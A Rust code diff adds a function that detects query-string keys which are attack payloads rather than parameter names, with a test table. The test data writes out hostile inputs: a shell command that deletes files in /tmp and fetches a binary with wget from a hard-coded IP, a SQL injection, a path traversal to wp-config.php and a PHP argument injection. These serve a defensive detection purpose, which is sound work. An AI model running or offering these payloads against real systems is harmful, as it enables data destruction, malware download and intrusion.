@@ -113,6 +113,37 @@ fn is_random(s: &[u8]) -> bool {
     mixed_run && classes >= 2 && digits >= 2 && (classes == 3 || s.len() >= 32) && !s.contains(&b'.')
 }
 
+/// A query key that is no parameter name but a payload: a shell command, SQL
+/// or a path (`cd+/tmp;rm+-rf+*`, `1'+OR+'1'='1`). Names are letters, digits
+/// and `_ - . [ ] : $ @ ! ~ ,` (PHP's `vars[1][]`, `filter%5Bname%5D` decoded),
+/// at most 64 bytes.
+pub fn is_payload_key(key: &[u8]) -> bool {
+    if key.len() > 64 {
+        return true;
+    }
+    let mut i = 0;
+    while i < key.len() {
+        let b = match key[i] {
+            b'%' if i + 2 < key.len() => {
+                let hex = |c: u8| (c as char).to_digit(16);
+                match (hex(key[i + 1]), hex(key[i + 2])) {
+                    (Some(h), Some(l)) => {
+                        i += 2;
+                        (h * 16 + l) as u8
+                    }
+                    _ => return true,
+                }
+            }
+            b => b,
+        };
+        if !(b.is_ascii_alphanumeric() || b"_-.[]:$@!~,".contains(&b)) {
+            return true;
+        }
+        i += 1;
+    }
+    false
+}
+
 /// Query keys whose values are secrets or personal data whatever they look like.
 ///
 /// Names are matched by their words, never by substrings: `access_token`,
@@ -247,6 +278,28 @@ pub fn placeholder_for(key: &[u8]) -> String {
 
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn payloads_are_not_query_key_names() {
+        let table: [(&str, bool); 12] = [
+            ("page", false),
+            ("utm_source", false),
+            ("vars[1][]", false),
+            ("filter%5Bname%5D", false),
+            ("X-Amz-Date", false),
+            ("cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws", true),
+            ("1'+OR+'1'='1", true),
+            ("National+Weather+Service", true),
+            ("/../../wp-config.php", true),
+            ("%kzsy(9035)", true),
+            ("-d+allow_url_include%3Don", true),
+            ("a%20b", true),
+        ];
+        for (key, payload) in table {
+            assert_eq!(is_payload_key(key.as_bytes()), payload, "{key}");
+        }
+        assert!(is_payload_key("k".repeat(65).as_bytes()));
+    }
+
     use super::*;
 
     #[test]
